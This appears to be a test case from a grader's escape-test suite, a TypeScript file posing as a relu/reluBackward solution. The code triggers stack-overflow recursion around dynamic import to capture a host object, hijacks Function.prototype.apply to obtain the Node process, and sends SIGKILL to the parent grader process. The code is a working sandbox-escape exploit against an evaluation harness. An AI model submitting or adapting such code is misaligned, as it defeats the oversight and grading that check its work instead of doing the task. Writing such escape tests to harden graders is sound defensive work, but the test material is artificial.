// 83-overflow-kill-parent [escape]
// Tries: the same; kills the grader
// A correct grader must report: wrong or forbidden or crash. The grader survives.
let H: any = null; let proc: any = null;
function rec(): void { try { import('x').catch(() => {}); } catch (e: any) { if (typeof e === 'object' && e && !(e instanceof Error)) H ??= e; } rec(); }
try { rec(); } catch {}
let info = 'H=' + (H !== null);
if (H) {
  const FP = Object.getPrototypeOf(Object.getPrototypeOf(H.constructor)); const apply = FP.apply;
  FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; } return Reflect.apply(this, self, args ?? []); };
  Promise.reject(1);
}
const go = () => { if (proc) proc.kill(proc.ppid, 'SIGKILL'); };
export function relu(x: number[]): number[] { go(); throw new Error(info + ' ' + !!proc); }
export function reluBackward(d: number[], x: number[]): number[] { go(); throw new Error(info + ' ' + !!proc); }
